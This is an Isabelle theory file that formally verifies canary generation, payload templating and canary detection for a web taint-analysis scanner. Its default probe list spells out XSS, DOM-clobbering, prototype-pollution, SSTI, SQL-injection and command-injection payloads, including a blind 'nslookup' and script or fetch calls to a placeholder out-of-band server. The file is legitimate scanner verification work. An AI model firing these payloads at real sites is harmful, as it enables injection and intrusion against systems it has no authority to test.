(* ===== verification/TaintProbes.thy ===== *)
theory TaintProbes
  imports Regex
begin

text \<open>
  The probes of the active taint analyser (\<^verbatim>\<open>internal/analysis/active/taint/probes.go\<close> and the probe
  helpers of \<^verbatim>\<open>taint_analyzer.go\<close>): the rules for valid flows, the default payloads, the canary that
  identifies a probe, and how a payload is made from its template. The canary is what links an
  event in the browser to the probe that caused it, so what matters is that the pattern that looks
  for canaries in the value seen at a sink finds every canary the analyser generates.
\<close>

section \<open>Data\<close>

definition ProbeTypeXSS :: string where "ProbeTypeXSS = ''XSS''"
definition ProbeTypeSSTI :: string where "ProbeTypeSSTI = ''SSTI''"
definition ProbeTypeSQLi :: string where "ProbeTypeSQLi = ''SQLI''"
definition ProbeTypeCmdInjection :: string where "ProbeTypeCmdInjection = ''CMD_INJECTION''"
definition ProbeTypeOAST :: string where "ProbeTypeOAST = ''OAST''"
definition ProbeTypeDOMClobbering :: string where "ProbeTypeDOMClobbering = ''DOM_CLOBBERING''"
definition ProbeTypePrototypePollution :: string where "ProbeTypePrototypePollution = ''PROTOTYPE_POLLUTION''"
definition ProbeTypeGeneric :: string where "ProbeTypeGeneric = ''GENERIC''"

lemmas probe_type_defs =
  ProbeTypeXSS_def ProbeTypeSSTI_def ProbeTypeSQLi_def ProbeTypeCmdInjection_def ProbeTypeOAST_def
  ProbeTypeDOMClobbering_def ProbeTypePrototypePollution_def ProbeTypeGeneric_def

definition probe_types :: "string list" where
  "probe_types = [ProbeTypeXSS, ProbeTypeSSTI, ProbeTypeSQLi, ProbeTypeCmdInjection, ProbeTypeOAST,
     ProbeTypeDOMClobbering, ProbeTypePrototypePollution, ProbeTypeGeneric]"

record ProbeDefinition =
  pdType :: string
  pdContext :: string
  pdPayload :: string

record ActiveProbe =
  apType :: string
  apKey :: string
  apValue :: string
  apCanary :: string
  apSource :: string
  apCreatedAt :: int

section \<open>Rules and default probes\<close>

definition ValidTaintFlows :: "(string \<times> string) \<rightharpoonup> bool" where
  "ValidTaintFlows = map_of (map (\<lambda>f. (f, True))
     (map (\<lambda>s. (ProbeTypeXSS, s))
        [''EVAL'', ''INNER_HTML'', ''OUTER_HTML'', ''DOCUMENT_WRITE'', ''IFRAME_SRCDOC'', ''FUNCTION_CONSTRUCTOR'',
         ''SCRIPT_SRC'', ''IFRAME_SRC'', ''NAVIGATION'', ''POST_MESSAGE'', ''WORKER_POST_MESSAGE''] @
      map (\<lambda>s. (ProbeTypeDOMClobbering, s)) [''EVAL'', ''INNER_HTML'', ''NAVIGATION''] @
      map (\<lambda>s. (ProbeTypeSSTI, s))
        [''EVAL'', ''INNER_HTML'', ''OUTER_HTML'', ''DOCUMENT_WRITE'', ''IFRAME_SRCDOC'', ''FUNCTION_CONSTRUCTOR''] @
      [(ProbeTypeSQLi, ''INNER_HTML''), (ProbeTypeCmdInjection, ''INNER_HTML'')] @
      map (\<lambda>s. (ProbeTypeGeneric, s))
        [''WEBSOCKET_SEND'', ''XHR_BODY'', ''XHR_URL'', ''FETCH_BODY'', ''FETCH_URL'', ''NAVIGATION'', ''SEND_BEACON'', ''WORKER_SRC''] @
      map (\<lambda>s. (ProbeTypeOAST, s))
        [''WEBSOCKET_SEND'', ''XHR_BODY'', ''XHR_URL'', ''FETCH_BODY'', ''FETCH_URL'', ''NAVIGATION'', ''SEND_BEACON'', ''WORKER_SRC'']))"

definition executionProofCall :: string where
  "executionProofCall = ''self.{{.ProofCallbackName}}('{{.Canary}}')''"

definition oastFetch :: string where
  "oastFetch = ''fetch('//{{.OASTServer}}/{{.Canary}}')''"

definition oastImage :: string where
  "oastImage = ''new Image().src='//{{.OASTServer}}/i/{{.Canary}}'' @ [CHR 0x27]"

definition quote_char :: string where "quote_char = [CHR 0x27]"

definition mk_probe :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> ProbeDefinition" where
  "mk_probe ty ctx payload = \<lparr>pdType = ty, pdContext = ctx, pdPayload = payload\<rparr>"

definition DefaultProbes :: "ProbeDefinition list" where
  \<open>DefaultProbes =
    [mk_probe ProbeTypeXSS ''HTML_INJECTION'' (''<img src=x onerror='' @ executionProofCall @ ''>''),
     mk_probe ProbeTypeXSS ''HTML_INJECTION'' (''<svg/onload='' @ executionProofCall @ ''>''),
     mk_probe ProbeTypeXSS ''HTML_INJECTION'' (''<video><source onerror='' @ executionProofCall @ ''></video>''),
     mk_probe ProbeTypeXSS ''ATTRIBUTE_INJECTION'' (''" autofocus onfocus='' @ executionProofCall),
     mk_probe ProbeTypeXSS ''ATTRIBUTE_INJECTION'' (quote_char @ '' autofocus onfocus='' @ executionProofCall),
     mk_probe ProbeTypeXSS ''ATTRIBUTE_INJECTION'' (''" style="animation-name:x" onanimationstart='' @ executionProofCall),
     mk_probe ProbeTypeXSS ''URI_INJECTION'' (''javascript:'' @ executionProofCall),
     mk_probe ProbeTypeXSS ''JS_INJECTION'' (quote_char @ '';'' @ executionProofCall @ '';//''),
     mk_probe ProbeTypeXSS ''JS_INJECTION'' (''</script><script>'' @ executionProofCall @ ''</script>''),
     mk_probe ProbeTypeXSS ''JS_INJECTION'' (''${'' @ executionProofCall @ ''}''),
     mk_probe ProbeTypeXSS ''BLIND_HTML_INJECTION'' ''<script src="//{{.OASTServer}}/s/{{.Canary}}"></script>'',
     mk_probe ProbeTypeXSS ''BLIND_JS_INJECTION'' (quote_char @ '';'' @ oastFetch @ '';//''),
     mk_probe ProbeTypeXSS ''BLIND_HTML_INJECTION'' (''<img src=x onerror="'' @ oastImage @ ''">''),
     mk_probe ProbeTypeDOMClobbering ''HTML_INJECTION''
       (''<a id=someVar><a id=someVar name=enabled href="javascript:'' @ executionProofCall @ ''">ClickMe</a>''),
     mk_probe ProbeTypeDOMClobbering ''HTML_INJECTION'' ''<form id=settings><input name=isAdmin value=true></form>'',
     mk_probe ProbeTypePrototypePollution ''JSON_PARSE_MERGE'' ''{"__proto__":{"scalpelPolluted":"{{.Canary}}"}}'',
     mk_probe ProbeTypePrototypePollution ''QS_PARSE_MERGE'' ''__proto__[scalpelPolluted]={{.Canary}}'',
     mk_probe ProbeTypePrototypePollution ''MERGE_CLONE'' ''{"constructor":{"prototype":{"scalpelPolluted":"{{.Canary}}"}}}'',
     mk_probe ProbeTypeSSTI ''TEMPLATE_EVAL_XSS'' (''${7 * 7}<img src=x onerror='' @ executionProofCall @ ''>''),
     mk_probe ProbeTypeSSTI ''TEMPLATE_EVAL_XSS'' (''{{7*7}}<img src=x onerror='' @ executionProofCall @ ''>''),
     mk_probe ProbeTypeOAST ''SSRF_HTTP'' ''http://{{.OASTServer}}/ssrf/{{.Canary}}'',
     mk_probe ProbeTypeOAST ''BLIND_RCE_DNS'' ''; nslookup {{.Canary}}.{{.OASTServer}} #'',
     mk_probe ProbeTypeSQLi ''REFLECTED_XSS'' (quote_char @ '' OR '1'='1 <script>'' @ executionProofCall @ ''</script>''),
     mk_probe ProbeTypeCmdInjection ''REFLECTED_XSS'' (''; echo '<script>'' @ executionProofCall @ ''</script>' #''),
     mk_probe ProbeTypeGeneric ''UNKNOWN'' ''GENERIC_{{.Canary}}'']\<close>

section \<open>Canaries\<close>

definition char_between :: "char \<Rightarrow> char \<Rightarrow> char \<Rightarrow> bool" where
  "char_between lo hi c = ((of_char lo :: nat) \<le> of_char c \<and> (of_char c :: nat) \<le> of_char hi)"

definition prefix_char :: "char \<Rightarrow> bool" where
  "prefix_char c = (char_between CHR ''A'' CHR ''Z'' c \<or> char_between CHR ''0'' CHR ''9'' c)"

definition type_char :: "char \<Rightarrow> bool" where
  "type_char c = (char_between CHR ''A'' CHR ''Z'' c \<or> c = CHR ''_'')"

definition hex_char :: "char \<Rightarrow> bool" where
  "hex_char c = (char_between CHR ''a'' CHR ''f'' c \<or> char_between CHR ''0'' CHR ''9'' c)"

definition canaryRegex :: regex where
  "canaryRegex =
     Cat (Lit ''SCALPEL_'') (Cat (Many1 prefix_char) (Cat (Lit ''_'')
       (Cat (Many1 type_char) (Cat (Lit ''_'') (Times 8 (Chr hex_char))))))"

text \<open>\<open>uuid\<close> is the printed form of a fresh random identifier.\<close>

definition generateCanary :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string" where
  "generateCanary prefix probeType uuid = ''SCALPEL_'' @ prefix @ ''_'' @ ToUpper probeType @ ''_'' @ take 8 uuid"

text \<open>What the code relies on of \<^verbatim>\<open>uuid.New().String()\<close>.\<close>

definition uuid_ok :: "string \<Rightarrow> bool" where
  "uuid_ok u \<longleftrightarrow> 8 \<le> length u \<and> list_all hex_char (take 8 u)"

section \<open>Payloads\<close>

text \<open>\<^verbatim>\<open>strings.NewReplacer(...).Replace\<close>: at each position the first old string that matches.\<close>

function replacer :: "(string \<times> string) list \<Rightarrow> string \<Rightarrow> string" where
  "replacer rs [] = []"
| "replacer rs (c # s) =
     (case find (\<lambda>r. fst r \<noteq> [] \<and> HasPrefix (c # s) (fst r)) rs of
        None \<Rightarrow> c # replacer rs s
      | Some r \<Rightarrow> snd r @ (if fst r = [] then [] else replacer rs (drop (length (fst r)) (c # s))))"
  by pat_completeness auto
termination by (relation "measure (\<lambda>(rs, s). length s)") auto

text \<open>What \<^verbatim>\<open>preparePayload\<close> reads of the analyser.\<close>

record payload_env =
  oastServer :: "string option"
  proofCallback :: string

definition preparePayload :: "payload_env \<Rightarrow> ProbeDefinition \<Rightarrow> string \<Rightarrow> string" where
  "preparePayload env probeDef canary =
     (let requiresOAST = Contains (pdPayload probeDef) ''{{.OASTServer}}'' in
      if requiresOAST \<and> oastServer env = None then []
      else replacer ([(''{{.Canary}}'', canary), (''{{.ProofCallbackName}}'', proofCallback env)] @
             (if requiresOAST then [(''{{.OASTServer}}'', case oastServer env of Some u \<Rightarrow> u | None \<Rightarrow> [])] else []))
             (pdPayload probeDef))"


section \<open>Canaries are recognised\<close>

lemma char_classes:
  "prefix_char c \<Longrightarrow> c \<noteq> CHR ''_''" "hex_char c \<Longrightarrow> \<not> type_char c" "hex_char c \<Longrightarrow> c \<noteq> CHR ''_''" "type_char CHR ''_''"
  by (auto simp: prefix_char_def hex_char_def type_char_def char_between_def)

text \<open>The shape the pattern asks for.\<close>

definition canary_shape :: "string \<Rightarrow> bool" where
  "canary_shape c \<longleftrightarrow> (\<exists>a m h. c = ''SCALPEL_'' @ a @ ''_'' @ m @ ''_'' @ h \<and> a \<noteq> [] \<and> list_all prefix_char a
     \<and> m \<noteq> [] \<and> list_all type_char m \<and> length h = 8 \<and> list_all hex_char h)"

lemma type_tail_match:
  assumes "m \<noteq> []" and "list_all type_char m" and "length h = 8" and "list_all hex_char h"
  shows "\<exists>rest. rmatch (Cat (Many1 type_char) (Cat (Lit ''_'') (Times 8 (Chr hex_char)))) p (m @ ''_'' @ h @ post)
    = (m @ ''_'' @ h, []) # rest"
proof -
  let ?r = "Cat (Lit ''_'') (Times 8 (Chr hex_char))"
  let ?s = "m @ ''_'' @ h @ post"
  obtain d h' where h: "h = d # h'" using assms(3) by (cases h) auto
  then have d: "\<not> type_char d" "d \<noteq> CHR ''_''" using assms(4) char_classes by auto
  have "takeWhile type_char ?s = m @ ''_''"
    using assms(2) h d(1) char_classes(4) by (simp add: takeWhile_append2 list_all_iff)
  moreover have "rev [1..<Suc (Suc (length m))] = Suc (length m) # length m # rev [1..<length m]"
    using assms(1) by (cases m) auto
  ultimately have many: "rmatch (Many1 type_char) p ?s = (m @ ''_'', []) # (m, []) # map (\<lambda>k. (take k ?s, [])) (rev [1..<length m])"
    by simp
  have "rmatch ?r (before p (m @ ''_'')) (drop (length (m @ ''_'')) ?s) = []"
    using h d(2) unfolding rmatch_Cat_Lit by simp
  moreover have "rmatch ?r (before p m) (drop (length m) ?s) = [(''_'' @ h, [])]"
    using rmatch_Times [OF assms(3,4)] unfolding rmatch_Cat_Lit by simp
  ultimately show ?thesis
    unfolding rmatch.simps(4) [of "Many1 type_char"] many by (simp del: rmatch.simps Lit.simps)
qed

lemma canary_match:
  assumes "canary_shape c"
  shows "\<exists>rest. rmatch canaryRegex p (c @ post) = (c, []) # rest"
proof -
  obtain a m h where c: "c = ''SCALPEL_'' @ a @ ''_'' @ m @ ''_'' @ h" and a: "a \<noteq> []" "list_all prefix_char a"
    and m: "m \<noteq> []" "list_all type_char m" and h: "length h = 8" "list_all hex_char h"
    using assms unfolding canary_shape_def by blast
  let ?t = "Cat (Many1 type_char) (Cat (Lit ''_'') (Times 8 (Chr hex_char)))"
  have "\<not> prefix_char CHR ''_''" using char_classes(1) by blast
  then have "rmatch (Cat (Many1 prefix_char) (Cat (Lit ''_'') ?t)) q (a @ ''_'' @ m @ ''_'' @ h @ post) =
      map (\<lambda>(n, h). (a @ ''_'' @ n, h)) (rmatch ?t (Some CHR ''_'') (m @ ''_'' @ h @ post))" for q
    using rmatch_greedy_sep [OF _ a, of "a @ ''_'' @ m @ ''_'' @ h @ post" "CHR ''_''" "m @ ''_'' @ h @ post" ?t q] by simp
  moreover obtain rest where "rmatch ?t (Some CHR ''_'') (m @ ''_'' @ h @ post) = (m @ ''_'' @ h, []) # rest"
    using type_tail_match [OF m h, of "Some CHR ''_''" post] by blast
  moreover have "rmatch canaryRegex p (c @ post) =
      map (\<lambda>(n, h). (''SCALPEL_'' @ n, h)) (rmatch (Cat (Many1 prefix_char) (Cat (Lit ''_'') ?t)) (Some CHR ''_'') (a @ ''_'' @ m @ ''_'' @ h @ post))"
    unfolding canaryRegex_def rmatch_Cat_Lit [of "''SCALPEL_''"] c by (simp add: before_def del: rmatch.simps Lit.simps)
  ultimately show ?thesis unfolding c by (simp only: list.map prod.case append_assoc) simp
qed


definition canary_prefixes :: "string list" where
  "canary_prefixes = [''P'', ''Q'', ''H'', ''SMART_Q'', ''SMART_H'']"

lemma probe_type_chars: "ty \<in> set probe_types \<Longrightarrow> ToUpper ty = ty \<and> ty \<noteq> [] \<and> list_all type_char ty"
  by (auto simp: probe_types_def probe_type_defs ToUpper_def upper_char_def type_char_def char_between_def)

lemma canary_shapeI:
  assumes "c = ''SCALPEL_'' @ a @ ''_'' @ m @ ''_'' @ h" and "a \<noteq> []" and "list_all prefix_char a" and "m \<noteq> []"
    and "list_all type_char m" and "length h = 8" and "list_all hex_char h"
  shows "canary_shape c"
  using assms unfolding canary_shape_def by blast

lemma generated_shape:
  assumes "prefix \<in> set canary_prefixes" and "ty \<in> set probe_types" and "uuid_ok uuid"
  shows "canary_shape (generateCanary prefix ty uuid)"
proof -
  have h: "length (take 8 uuid) = 8" "list_all hex_char (take 8 uuid)" using assms(3) by (simp_all add: uuid_ok_def)
  have ty: "ToUpper ty = ty" "ty \<noteq> []" "list_all type_char ty" using probe_type_chars [OF assms(2)] by blast+
  have letters: "list_all prefix_char ''P''" "list_all prefix_char ''Q''" "list_all prefix_char ''H''"
    "list_all prefix_char ''SMART''" "list_all type_char ''Q_''" "list_all type_char ''H_''"
    by (simp_all add: prefix_char_def type_char_def char_between_def)
  from assms(1) consider "prefix \<in> {''P'', ''Q'', ''H''}" | x where "prefix = ''SMART_'' @ x" "x \<in> {''Q'', ''H''}"
    by (auto simp: canary_prefixes_def)
  then show ?thesis
  proof cases
    case 1
    with letters ty h show ?thesis
      by (intro canary_shapeI [of _ prefix ty "take 8 uuid"]) (auto simp: generateCanary_def)
  next
    case (2 x)
    with letters ty h show ?thesis
      by (intro canary_shapeI [of _ "''SMART''" "x @ ''_'' @ ty" "take 8 uuid"]) (auto simp: generateCanary_def)
  qed
qed

lemma no_straddle:
  assumes "\<not> Contains b ''SCALPEL_''" and "HasPrefix c ''SCALPEL_''" and "b \<noteq> []"
  shows "\<not> HasPrefix (b @ c) ''SCALPEL_''"
proof
  assume p: "HasPrefix (b @ c) ''SCALPEL_''"
  then obtain r where r: "b @ c = ''SCALPEL_'' @ r" by (auto simp: HasPrefix_iff)
  show False
  proof (cases "length b < 8")
    case False
    then have "take 8 b = take 8 (b @ c)" by simp
    then have "b = ''SCALPEL_'' @ drop 8 b" using append_take_drop_id [of 8 b] unfolding r by simp
    with assms(1) show False by (metis Contains_iff append_Nil)
  next
    case True
    define n where "n = length b"
    have "c = drop n (b @ c)" by (simp add: n_def)
    also have "\<dots> = drop n ''SCALPEL_'' @ r" unfolding r drop_append using True by (simp add: n_def)
    finally have "hd c = hd (drop n ''SCALPEL_'' @ r)" by simp
    moreover have "hd c = CHR ''S''" using assms(2) by (auto simp: HasPrefix_iff)
    moreover have "0 < n" "n < 8" using True assms(3) by (simp_all add: n_def)
    then have "n \<in> {1,2,3,4,5,6,7}" by fastforce
    ultimately show False by auto
  qed
qed

lemma find_all_next:
  assumes "\<exists>rest. rmatch r p (m @ t) = (m, g) # rest" and "m \<noteq> []"
  shows "find_all r p (m @ t) = m # find_all r (before p m) t"
  using assms by (cases m) auto

lemma canary_skip:
  assumes "canary_shape c" and "\<not> Contains pre ''SCALPEL_''"
  shows "\<exists>q. find_all canaryRegex p (pre @ c @ post) = find_all canaryRegex q (c @ post)"
proof (rule find_all_skip, intro allI impI)
  fix q a d b assume "pre = a @ d # b"
  then have "\<not> Contains (d # b) ''SCALPEL_''" using assms(2) unfolding Contains_iff by (metis append_assoc)
  moreover have "HasPrefix (c @ post) ''SCALPEL_''" using assms(1) unfolding canary_shape_def by auto
  ultimately have "\<not> HasPrefix (d # b @ c @ post) ''SCALPEL_''" using no_straddle [of "d # b" "c @ post"] by simp
  then show "rmatch canaryRegex q (d # b @ c @ post) = []"
    unfolding canaryRegex_def rmatch_Cat_Lit [of "''SCALPEL_''"] by (rule if_not_P)
qed

text \<open>
  A text in which every \<^verbatim>\<open>SCALPEL_\<close> starts a whole canary: what may stand in front of a canary
  for the scan to find it.
\<close>

inductive whole_canaries :: "string \<Rightarrow> bool" where
  no_canary: "\<not> Contains w ''SCALPEL_'' \<Longrightarrow> whole_canaries w"
| one_more: "\<not> Contains w ''SCALPEL_'' \<Longrightarrow> canary_shape k \<Longrightarrow> whole_canaries r \<Longrightarrow> whole_canaries (w @ k @ r)"

lemma canary_found:
  assumes "whole_canaries pre" and "canary_shape c"
  shows "c \<in> set (find_all canaryRegex p (pre @ c @ post))"
  using assms(1)
proof (induction pre arbitrary: p rule: whole_canaries.induct)
  case (no_canary w)
  have "c \<noteq> []" using assms(2) unfolding canary_shape_def by auto
  then show ?case
    using canary_skip [OF assms(2) no_canary, of p post] find_all_head [OF canary_match [OF assms(2)]] by metis
next
  case (one_more w k r)
  have k: "k \<noteq> []" using one_more(2) unfolding canary_shape_def by auto
  obtain q where "find_all canaryRegex p (w @ k @ r @ c @ post) = find_all canaryRegex q (k @ r @ c @ post)"
    using canary_skip [OF one_more(2,1), of p "r @ c @ post"] by blast
  also have "\<dots> = k # find_all canaryRegex (before q k) (r @ c @ post)"
    by (rule find_all_next [OF canary_match [OF one_more(2)] k])
  finally show ?case using one_more.IH by simp
qed

section \<open>Payloads carry their canary\<close>

text \<open>No placeholder starts inside another one.\<close>

definition overlap_free :: "string \<Rightarrow> bool" where
  "overlap_free k = list_all (\<lambda>j. k ! j \<noteq> CHR ''{'' \<or> Suc j < length k \<and> k ! Suc j \<noteq> CHR ''{'') [1..<length k]"

lemma overlap_behind:
  assumes "overlap_free k" and "k @ z = x @ ''{{.Canary}}'' @ y" and "x \<noteq> []"
  shows "length k \<le> length x"
proof (rule ccontr)
  assume "\<not> length k \<le> length x"
  define j where "j = length x"
  have j: "j \<in> set [1..<length k]" using \<open>\<not> length k \<le> length x\<close> assms(3) by (auto simp: j_def Suc_le_eq)
  have "(k @ z) ! j = CHR ''{''" "(k @ z) ! Suc j = CHR ''{''"
    unfolding assms(2) by (simp_all add: j_def nth_append)
  with assms(1) j show False unfolding overlap_free_def list_all_iff by (auto simp: nth_append)
qed

lemma replacer_keeps:
  assumes "\<forall>r\<in>set rs. overlap_free (fst r)" and "Contains t ''{{.Canary}}''"
  shows "Contains (replacer ((''{{.Canary}}'', c) # rs) t) c"
  using assms(2)
proof (induction "length t" arbitrary: t rule: less_induct)
  case less
  let ?rs = "(''{{.Canary}}'', c) # rs"
  show ?case
  proof (cases t)
    case Nil
    with less.prems show ?thesis by simp
  next
    case (Cons d s)
    show ?thesis
    proof (cases "HasPrefix t ''{{.Canary}}''")
      case True
      then have "find (\<lambda>r. fst r \<noteq> [] \<and> HasPrefix t (fst r)) ?rs = Some (''{{.Canary}}'', c)" by simp
      then have "replacer ?rs t = c @ replacer ?rs (drop (length ''{{.Canary}}'') t)"
        unfolding Cons replacer.simps(2) by simp
      then show ?thesis unfolding Contains_iff by (metis append_Nil)
    next
      case False
      obtain x y where xy: "t = x @ ''{{.Canary}}'' @ y" using less.prems by (auto simp: Contains_iff)
      with False have x: "x \<noteq> []" by auto
      define f where "f = find (\<lambda>r. fst r \<noteq> [] \<and> HasPrefix t (fst r)) rs"
      have f: "find (\<lambda>r. fst r \<noteq> [] \<and> HasPrefix t (fst r)) ?rs = f" using False by (simp add: f_def)
      have deeper: "Contains (replacer ?rs (drop n t)) c" if "0 < n" "n \<le> length x" for n
      proof -
        have "drop n t = drop n x @ ''{{.Canary}}'' @ y" using that xy by simp
        then have "Contains (drop n t) ''{{.Canary}}''" unfolding Contains_iff by blast
        then show ?thesis using that Cons by (intro less.hyps) simp_all
      qed
      show ?thesis
      proof (cases f)
        case None
        then have "replacer ?rs t = [d] @ replacer ?rs (drop 1 t)" using f unfolding Cons replacer.simps(2) by simp
        moreover have "Contains (replacer ?rs (drop 1 t)) c" using deeper [of 1] x by (cases x) simp_all
        ultimately show ?thesis unfolding Contains_iff by (metis append_assoc)
      next
        case (Some r)
        then have r: "r \<in> set rs" "fst r \<noteq> []" "HasPrefix t (fst r)" unfolding f_def find_Some_iff by auto
        then obtain z where "t = fst r @ z" by (auto simp: HasPrefix_iff)
        then have "length (fst r) \<le> length x" using overlap_behind [of "fst r" z x y] assms(1) r(1) xy x by simp
        then have "Contains (replacer ?rs (drop (length (fst r)) t)) c" using deeper r(2) by simp
        moreover have "replacer ?rs t = snd r @ replacer ?rs (drop (length (fst r)) t)"
          using f Some r(2) unfolding Cons replacer.simps(2) by simp
        ultimately show ?thesis unfolding Contains_iff by (metis append_assoc)
      qed
    qed
  qed
qed

lemma payload_contains_canary:
  assumes "Contains (pdPayload d) ''{{.Canary}}''" and "preparePayload env d c \<noteq> []"
  shows "Contains (preparePayload env d c) c"
proof -
  have "overlap_free ''{{.ProofCallbackName}}''" "overlap_free ''{{.OASTServer}}''" by code_simp+
  then show ?thesis
    using assms replacer_keeps unfolding preparePayload_def Let_def by (auto split: if_splits option.splits)
qed

text \<open>
  Nothing in front of the canary can be taken for the start of another one: a template in which
  only placeholders and characters other than S stand before the canary.
\<close>

function canary_first :: "string \<Rightarrow> bool" where
  "canary_first [] = False"
| "canary_first (c # s) =
     (if HasPrefix (c # s) ''{{.Canary}}'' then True
      else if HasPrefix (c # s) ''{{.ProofCallbackName}}'' then canary_first (drop 21 s)
      else if HasPrefix (c # s) ''{{.OASTServer}}'' then canary_first (drop 14 s)
      else c \<noteq> CHR ''S'' \<and> canary_first s)"
  by pat_completeness auto
termination by (relation "measure length") auto

definition replacements :: "string \<Rightarrow> payload_env \<Rightarrow> bool \<Rightarrow> (string \<times> string) list" where
  "replacements c env oast = [(''{{.Canary}}'', c), (''{{.ProofCallbackName}}'', proofCallback env)] @
     (if oast then [(''{{.OASTServer}}'', case oastServer env of Some u \<Rightarrow> u | None \<Rightarrow> [])] else [])"

text \<open>The names the analyser puts into payloads do not contain an S.\<close>

definition env_ok :: "payload_env \<Rightarrow> bool" where
  "env_ok env \<longleftrightarrow> CHR ''S'' \<notin> set (proofCallback env) \<and> (\<forall>u. oastServer env = Some u \<longrightarrow> CHR ''S'' \<notin> set u)"

lemma replacer_placeholder:
  assumes "fst r \<noteq> []" and "find (\<lambda>r. fst r \<noteq> [] \<and> HasPrefix t (fst r)) rs = Some r" and "t \<noteq> []"
  shows "replacer rs t = snd r @ replacer rs (drop (length (fst r)) t)"
  using assms by (cases t) (simp_all del: HasPrefix.simps)

lemma replacer_other:
  assumes "find (\<lambda>r. fst r \<noteq> [] \<and> HasPrefix (c # s) (fst r)) rs = None"
  shows "replacer rs (c # s) = c # replacer rs s"
  using assms by (simp del: HasPrefix.simps)

lemma canary_first_replaced:
  assumes "canary_first t" and "env_ok env" and "oast \<or> \<not> Contains t ''{{.OASTServer}}''"
  shows "\<exists>u v. replacer (replacements c env oast) t = u @ c @ v \<and> CHR ''S'' \<notin> set u"
  using assms(1,3)
proof (induction t rule: canary_first.induct)
  case (2 d s)
  let ?rs = "replacements c env oast"
  let ?f = "find (\<lambda>r. fst r \<noteq> [] \<and> HasPrefix (d # s) (fst r)) ?rs"
  have rest: "oast \<or> \<not> Contains (drop n s) ''{{.OASTServer}}''" for n
    using 2(5) unfolding Contains_iff by (metis append_Cons append_assoc append_take_drop_id)
  have step: "\<exists>u v. replacer ?rs (d # s) = u @ c @ v \<and> CHR ''S'' \<notin> set u"
    if "\<exists>u v. replacer ?rs t' = u @ c @ v \<and> CHR ''S'' \<notin> set u" "replacer ?rs (d # s) = w @ replacer ?rs t'" "CHR ''S'' \<notin> set w" for t' w
    using that by (metis Un_iff append_assoc set_append)
  consider (canary) "HasPrefix (d # s) ''{{.Canary}}''"
    | (callback) "\<not> HasPrefix (d # s) ''{{.Canary}}''" "HasPrefix (d # s) ''{{.ProofCallbackName}}''"
    | (server) "\<not> HasPrefix (d # s) ''{{.Canary}}''" "\<not> HasPrefix (d # s) ''{{.ProofCallbackName}}''" "HasPrefix (d # s) ''{{.OASTServer}}''"
    | (other) "\<not> HasPrefix (d # s) ''{{.Canary}}''" "\<not> HasPrefix (d # s) ''{{.ProofCallbackName}}''" "\<not> HasPrefix (d # s) ''{{.OASTServer}}''"
    by blast
  then show ?case
  proof cases
    case canary
    then have "?f = Some (''{{.Canary}}'', c)" by (simp add: replacements_def del: HasPrefix.simps)
    then have "replacer ?rs (d # s) = [] @ c @ replacer ?rs (drop (length ''{{.Canary}}'') (d # s))"
      using replacer_placeholder [of "(''{{.Canary}}'', c)"] by simp
    then show ?thesis by (intro exI conjI) auto
  next
    case callback
    then have "?f = Some (''{{.ProofCallbackName}}'', proofCallback env)" by (simp add: replacements_def del: HasPrefix.simps)
    then have e: "replacer ?rs (d # s) = proofCallback env @ replacer ?rs (drop 21 s)"
      using replacer_placeholder [of "(''{{.ProofCallbackName}}'', proofCallback env)"] by (simp add: numeral_eq_Suc)
    have "canary_first (drop 21 s)" using 2(4) callback by (simp del: HasPrefix.simps)
    from step [OF 2(1) [OF callback this rest] e] assms(2) show ?thesis by (simp add: env_ok_def)
  next
    case server
    then have o: oast using 2(5) by (metis Contains.simps(2))
    define v where "v = (case oastServer env of Some u \<Rightarrow> u | None \<Rightarrow> [])"
    have "?f = Some (''{{.OASTServer}}'', v)" using server o by (simp add: replacements_def v_def del: HasPrefix.simps)
    then have e: "replacer ?rs (d # s) = v @ replacer ?rs (drop 14 s)"
      using replacer_placeholder [of "(''{{.OASTServer}}'', v)"] by (simp add: numeral_eq_Suc)
    have "canary_first (drop 14 s)" using 2(4) server by (simp del: HasPrefix.simps)
    moreover have "CHR ''S'' \<notin> set v" using assms(2) by (auto simp: v_def env_ok_def split: option.splits)
    ultimately show ?thesis using step [OF 2(2) [OF server _ rest] e] by blast
  next
    case other
    then have "?f = None" by (simp add: replacements_def find_None_iff del: HasPrefix.simps)
    then have e: "replacer ?rs (d # s) = [d] @ replacer ?rs s" using replacer_other by simp
    have "canary_first s" "d \<noteq> CHR ''S''" using 2(4) other by (simp_all del: HasPrefix.simps)
    then show ?thesis using step [OF 2(3) [OF other _ rest [of 0, unfolded drop_0]] e] by simp
  qed
qed simp

lemma preparePayload_replaced:
  assumes "preparePayload env d c \<noteq> []"
  shows "preparePayload env d c = replacer (replacements c env (Contains (pdPayload d) ''{{.OASTServer}}'')) (pdPayload d)"
  using assms by (auto simp: preparePayload_def replacements_def Let_def split: if_splits)

lemma default_templates: "list_all (\<lambda>d. canary_first (pdPayload d) \<or> \<not> Contains (pdPayload d) ''{{.Canary}}'') DefaultProbes"
  by code_simp

lemma default_payload:
  assumes "d \<in> set DefaultProbes" and "Contains (pdPayload d) ''{{.Canary}}''" and "env_ok env" and "preparePayload env d c \<noteq> []"
  shows "\<exists>u v. preparePayload env d c = u @ c @ v \<and> CHR ''S'' \<notin> set u"
  using default_templates assms(1,2) canary_first_replaced [OF _ assms(3)]
  unfolding preparePayload_replaced [OF assms(4)] list_all_iff by blast

lemma default_types: "d \<in> set DefaultProbes \<Longrightarrow> pdType d \<in> set probe_types"
proof -
  have "list_all (\<lambda>d. pdType d \<in> set probe_types) DefaultProbes" by code_simp
  then show "d \<in> set DefaultProbes \<Longrightarrow> pdType d \<in> set probe_types" by (simp add: list_all_iff)
qed

lemma no_S_no_canary: "CHR ''S'' \<notin> set x \<Longrightarrow> \<not> Contains x ''SCALPEL_''"
  by (auto simp: Contains_iff)

lemma replacer_plain: "CHR ''{'' \<notin> set t \<Longrightarrow> replacer (replacements c env oast) t = t"
proof (induction t)
  case (Cons d s)
  then have "find (\<lambda>r. fst r \<noteq> [] \<and> HasPrefix (d # s) (fst r)) (replacements c env oast) = None"
    by (auto simp: replacements_def find_None_iff)
  with Cons show ?case using replacer_other by simp
qed simp

text \<open>A default payload that contains its canary contains it first.\<close>

lemma default_payload_canary:
  assumes "d \<in> set DefaultProbes" and "env_ok env" and "preparePayload env d c \<noteq> []" and "Contains (preparePayload env d c) c"
    and "HasPrefix c ''SCALPEL_''"
  shows "\<exists>u v. preparePayload env d c = u @ c @ v \<and> CHR ''S'' \<notin> set u"
proof (cases "Contains (pdPayload d) ''{{.Canary}}''")
  case True
  then show ?thesis using default_payload assms by blast
next
  case False
